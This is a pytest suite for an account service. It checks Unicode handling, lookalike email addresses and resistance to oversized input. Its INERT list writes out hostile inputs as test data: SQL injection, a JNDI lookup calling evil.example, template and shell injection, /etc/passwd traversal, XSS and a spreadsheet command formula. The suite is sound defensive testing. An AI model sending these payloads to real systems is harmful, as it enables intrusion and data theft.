"""Text that is hard to hold (RELIABILITY 5: 18, 33): stored and returned as it came, or refused; and never obeyed."""

import json
import unicodedata
import uuid
from typing import Any

import asyncpg
import httpx
import pytest
from tests.attacks.claims import assert_refused, assert_silent_about
from tests.conftest import Start
from tests.fixtures.service import PASSWORD, Account, Service

HARD = {
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "astral": "𝒳\U0010ffff",
    "right to left": "\u202eevil\u202c",
    "isolates": "\u2066a\u2069",
    "zero width": "a\u200b\u200c\u200d\ufeffb",
    "combining": "z" + "\u0301" * 60,
    "not normal": "e\u0301 \u1100\u1161 \ufb2c",
    "Turkish": "İıſK",
    "noncharacters": "\ufffe\uffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "tags": "\U000e0041\U000e0042",
    "spaces": "a\u00a0\u3000b",
    "language of the log": '", "event": "forged',
    "100 letters": "x" * 100,
    "100 astral letters": "💥" * 100,
}
REFUSED = {
    "NUL": "a\0b",
    "newline": "a\nb",
    "carriage return": "a\rb",
    "escape": "\x1b[31mred",
    "delete": "a\x7f",
    "C1 control": "a\x9b31m",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "101 letters": "x" * 101,
    "long when normalised": "\ufb2c" * 60,
}
# Each means something to somebody further in: SQL, LIKE, Redis, shells, templates, logs, HTML, paths, formulas.
INERT = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" OR ""="',
    "1); SELECT pg_sleep(5); --",
    "$1 %s :name %(name)s ?",
    "% _ \\% \\_ [a-z]*",
    "* ? [^x] {a}",
    "{conversation}:tape:{1}",
    "parley:limit* 0 EVAL",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {7*7}",
    "{0.__class__} %(levelname)s {request_id}",
    "$(id) `id` | id ; id && id",
    "../../../etc/passwd %2e%2e%2f",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "__proto__ constructor.prototype",
    "\\u0000 \\ud800 \\x00 %00",
]


async def register(service: Service, **fields: Any) -> httpx.Response:
    body = {"email": f"{uuid.uuid4().hex}@shop.example", "password": PASSWORD, **fields}
    text = json.dumps(body, ensure_ascii=False).encode()
    return await service.http.post("/auth/register", content=text, headers={"Content-Type": "application/json"})


async def test_hard_text_comes_back_as_it_was_sent(service: Service, subtests: pytest.Subtests) -> None:
    for what, text in HARD.items():
        with subtests.test(what):
            answer = await register(service, name=text)

            assert answer.status_code == 201, answer.text
            account = Account.of(answer)
            me = await service.http.get("/auth/me", headers=account.headers)
            assert account.user["name"] == me.json()["name"] == unicodedata.normalize("NFC", text)


async def test_text_that_is_no_line_is_refused(service: Service, subtests: pytest.Subtests) -> None:
    for what, text in REFUSED.items():
        with subtests.test(what):
            answer = await register(service, name=text)

            assert_refused(answer, 413, 422)
            assert_silent_about(answer, text[:50])


async def test_spellings_of_one_address_are_one_account(service: Service, subtests: pytest.Subtests) -> None:
    await service.register("strasse@shop.example")
    for spelling in (
        "STRASSE@SHOP.EXAMPLE",
        " strasse@shop.example ",
        "straße@shop.example",
        "ｓｔｒａｓｓｅ@shop.example",
        "stra\u017f\u017fe@shop.example",
        "strasse@shop\u2024example",
        "ﬆrasse@shop.example",
    ):
        with subtests.test(spelling):
            assert_refused(await register(service, email=spelling), 409, code="email_taken")
            assert (await service.log_in(spelling)).status_code == 200


async def test_an_address_that_looks_like_another_is_refused(service: Service, subtests: pytest.Subtests) -> None:
    """What nobody can see in an address makes a second account of the same face."""
    await service.register("ada@shop.example")
    for odd in ("ada\u200b", "\u2060ada", "a\u00adda", "ada\u202e", "ada\ufeff", "ada\U000e0061", "ada\u034f"):
        with subtests.test(ascii(odd)):
            assert_refused(await register(service, email=f"{odd}@shop.example"), 409, 422)


async def test_what_is_no_address_is_refused(service: Service, subtests: pytest.Subtests) -> None:
    for text in (
        *("", " ", "a", "a@", "@b", "a@b", "a@@b.example", "a b@c.example", "a@b.example\n", "a\0@b.example", "a@b."),
        *(
            "<a@b.example>",
            "Ada <a@b.example>",
            "a@b.example,c@d.example",
            "a@b.example;c",
            '"a"@b.example',
            "a@b.c\r\nX: y",
        ),
        *("x" * 255 + "@b.example", "\ufdfa" * 20 + "@b.example", "a@b.example\u2028", "a\x85@b.example"),
    ):
        with subtests.test(ascii(text[:30])):
            answer = await register(service, email=text)
            if text.strip() == "a@b.example":
                assert answer.status_code in {201, 409}  # blanks around an address are no part of it
            else:
                assert_refused(answer, 422, code="validation_error")


async def test_what_means_something_elsewhere_means_nothing_here(
    start: Start, database_url: str, subtests: pytest.Subtests
) -> None:
    async with start() as service:
        bystander = await service.register("bystander@shop.example")
        database = await asyncpg.connect(database_url)
        try:
            for text in INERT:
                with subtests.test(text):
                    password = text[:60] + " 12345678"
                    made = await register(service, name=text, password=password)
                    assert made.status_code == 201, made.text
                    account = Account.of(made)
                    assert account.user["name"] == text
                    assert (await service.log_in(account.user["email"], password)).status_code == 200
                    assert_refused(await service.log_in(text, text), 401, 422)
                    assert_refused(await service.log_in("bystander@shop.example", text), 401)
                    assert_refused(await service.http.post("/auth/refresh", json={"refresh_token": text}), 401)
                    gone = await service.http.post(
                        "/auth/ticket", json={"conversation_id": text}, headers=account.headers
                    )
                    assert_refused(gone, 422)
                    headers = {"X-Request-ID": text, "User-Agent": text, "Referer": text}
                    assert (await service.http.get("/auth/me", headers={**account.headers, **headers})).is_success
                    assert await database.fetchval("SELECT count(*) FROM users WHERE name = $1", text) == 1
        finally:
            await database.close()
        assert (await service.http.get("/auth/me", headers=bystander.headers)).json() == bystander.user


async def test_names_in_redis_are_ours_alone(start: Start) -> None:
    """A limit's key is made of an endpoint and a parsed address or an id, never of what somebody wrote."""
    async with start(PARLEY_LIMIT_GENERAL="50/minute", PARLEY_LIMIT_LOGIN="50/minute") as service:
        account = await service.register()
        for text in ("*", "a b", "{tag}", "x:y", "%s"):
            await service.log_in(f"{text}@shop.example", text)
            headers = {"X-Forwarded-For": text, "X-Request-ID": text, **account.headers}
            await service.http.get("/auth/me", headers=headers)
        names = [name.decode() async for name in service.parts["redis"].scan_iter("*")]

    assert names
    for name in names:
        assert not set(name) & set("*?{}%\n\r "), name
        assert name.startswith("parley:"), name


# Each is repeated to the longest body that is taken.
GREEDY = {
    "marks": "\u0301",
    "marks in the wrong order": "\u0301\u0323",  # sorting them takes quadratic time: 1 MB takes minutes
    "letters": "x",
    "ligatures": "\ufdfa",
    "Hangul": "\u1100\u1161",
    "astral": "\U0001d160",
}


@pytest.mark.parametrize("what", GREEDY)
async def test_no_text_holds_the_loop(service: Service, what: str) -> None:
    """The guard over every test measures it; whatever is too long is refused before anything else is done with it."""
    room = service.parts["settings"].server.body_limit_bytes - 200
    text = GREEDY[what] * (room // len(GREEDY[what].encode()))
    for field in ("name", "email", "password"):
        assert_refused(await register(service, **{field: text}), 422, code="validation_error")
    answer = await service.http.post("/auth/token", data={"username": text[:2000], "password": text[:2000]})
    assert_refused(answer, 422, code="validation_error")
